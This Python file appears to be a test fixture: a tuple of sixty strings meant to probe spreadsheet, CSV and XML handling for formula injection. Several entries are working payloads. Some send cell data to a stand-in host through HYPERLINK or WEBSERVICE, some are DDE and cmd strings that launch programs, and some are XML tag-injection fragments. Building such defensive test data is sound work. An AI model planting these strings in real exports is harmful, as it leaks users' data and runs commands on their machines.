"""Sixty texts that a spreadsheet, a CSV reader or an XML parser might take for something else than a text."""

ATTACKS: tuple[str, ...] = (
    # formulas
    "=1+1", "=SUM(A1:A9)", "=A1", "==1+1", " =1+1", "=-1", "=+1", '="a"&"b"', "=1/0", "=NOW()", "{=1+1}", "=ROW()",
    '=HYPERLINK("http://evil.example/"&A1,"open")', '=IMPORTXML("http://evil.example/","//a")',
    '=WEBSERVICE("http://evil.example/"&B2)', '=IMAGE("http://evil.example/p.png")', '=INDIRECT("Sheet1!A1")',
    # commands and dynamic data exchange
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")', "=MSEXCEL|'..\\..\\Windows\\System32\\cmd.exe /c calc'!''", "=rundll32|'x.dll,y'!A",
    # other beginnings of formulas
    "+1+1", "+A1", "-1+1", "-A1", "@SUM(A1:A9)", "@A1", "+", "-", "=", "@", "--1", "+-1", "-(1)", "+49 30 1234567",
    # white space before
    "\t=1+1", "\r=1+1", "\n=1+1", "\t@A1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1",
    # full-width and other look-alikes
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20A1",
    # numbers, days and errors that are texts
    "0123", "1e5", "1/2", "2026-01-01", "TRUE", "#REF!", "#N/A", "0x10",
    # marks of files
    '"=1+1"', "',=1+1", ";=1+1", "</t></is></c><c><f>1+1</f></c>", "]]><f>1</f>", "&#61;1+1", "_x003D_1+1",
)  # fmt: skip
